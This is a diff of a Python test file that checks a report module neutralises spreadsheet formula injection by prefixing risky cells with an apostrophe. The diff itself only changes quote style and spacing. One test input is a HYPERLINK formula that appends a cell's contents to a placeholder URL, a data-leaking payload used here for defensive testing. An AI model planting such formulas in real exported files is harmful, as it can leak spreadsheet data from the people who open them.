@@ -6,7 +6,7 @@ from happiness_index.report.cells import escape_markdown, neutralise_cell, neutr
 
 
 def test_formula_prefixes_get_an_apostrophe_numbers_unchanged():
-    for bad in ["=HYPERLINK(\"http://x\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]:
+    for bad in ['=HYPERLINK("http://x"&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]:
         assert neutralise_cell(bad) == "'" + bad
     assert neutralise_cell("Phường Nguyễn Thái Học") == "Phường Nguyễn Thái Học"
     assert neutralise_cell(-1.5) == -1.5
@@ -14,7 +14,7 @@ def test_formula_prefixes_get_an_apostrophe_numbers_unchanged():
     g = neutralise_frame(f)
     assert list(g["name"]) == ["'=1+1", "ok"] and list(g["x"]) == [-1.0, 2.0]
     assert list(g.index) == ["'=a", "b"]
-    assert list(f["name"]) == ["=1+1", "ok"]          # input unchanged
+    assert list(f["name"]) == ["=1+1", "ok"]  # input unchanged
 
 
 def test_markdown_escapes_html_and_markup():
